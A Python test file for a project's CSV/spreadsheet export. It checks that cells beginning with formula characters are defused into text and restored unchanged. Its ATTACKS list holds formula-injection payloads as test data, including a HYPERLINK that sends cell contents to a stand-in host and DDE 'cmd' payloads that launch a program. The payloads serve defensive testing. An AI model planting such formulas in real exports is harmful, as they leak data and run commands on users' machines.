"""CSV cells: what a spreadsheet would run is text, and comes back as it was."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from summarizer.export.columns import EventRow, columns
from summarizer.export.spreadsheet import cell, defuse, undefuse, value

COLUMNS = {column.name: column for column in columns("events")}
TRICKY = st.text(alphabet=st.sampled_from(list("=+-@＝＠' \t\r\n;,\"\\|a1\u200b\ufeff🛳")), max_size=30)
ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "'=1+1",
    "storm; =1+1",
    "storm\n=1+1",
]


def is_formula(text: str) -> bool:
    """Whether a spreadsheet runs a cell: it looks past what is invisible."""
    return text.lstrip(" \t\r\n\u200b\ufeff").startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_text(attack: str) -> None:
    """A headline that is a formula is shown, not run, in the file and in one that takes semicolons for separators."""
    for column, words in (("headline", attack), ("actors", (attack, attack))):
        written = cell(words, COLUMNS[column])
        assert not any(map(is_formula, written.split(";")))
        assert value(written, COLUMNS[column]) == words


@given(st.text() | TRICKY)
@example("''=")
@example("; '=")
def test_defusing_is_undone(text: str) -> None:
    """Whatever an article says is read back as it was, also what looks as if it had been defused."""
    assert undefuse(defuse(text)) == text
    assert not any(is_formula(part) for line in defuse(text).splitlines() for part in line.split(";"))


@given(st.text() | TRICKY)
def test_plain_words_stay_as_they_are(text: str) -> None:
    """A text without the starters of a formula is written as it is."""
    if not set(text) & set("=+-@＝＋－＠"):
        assert defuse(text) == text


@given(st.lists(st.text(min_size=1) | TRICKY.filter(bool), max_size=5).map(tuple))
def test_lists_are_read_back(items: tuple[str, ...]) -> None:
    """Names with semicolons and backslashes stay apart."""
    assert value(cell(items, COLUMNS["actors"]), COLUMNS["actors"]) == items


@given(st.dictionaries(st.text(min_size=1), st.lists(TRICKY).map(tuple)))
def test_nested_cells_are_json_without_a_separator(details: dict[str, tuple[str, ...]]) -> None:
    """A nested cell is JSON for every reader, and a program that separates by semicolons finds none in it."""
    written = cell(details, COLUMNS["details"])
    assert ";" not in written
    assert not is_formula(written)
    assert value(written, COLUMNS["details"]) == details


@given(st.text() | TRICKY)
def test_the_csv_module_keeps_cells(text: str) -> None:
    """Quotes and line ends inside a cell do not end it."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell(text, COLUMNS["headline"]), "next"])
    assert list(csv.reader(io.StringIO(file.getvalue(), newline=""))) == [[defuse(text), "next"]]


def test_every_column_has_a_form() -> None:
    """Each column is words, a list, nested, a number or a date: none is written by its Python name by mistake."""
    plain = [column.name for column in COLUMNS.values() if not (column.is_text or column.is_list or column.is_nested)]
    assert plain == [
        *("event_date", "event_date_end", "time_precision"),
        *("fatalities", "fatalities_low", "fatalities_high", "injured", "injured_low", "injured_high"),
        *("quad_code", "trigger_start", "trigger_end", "published_date", "coded_at"),
    ]
    assert set(COLUMNS) == set(EventRow.model_fields)
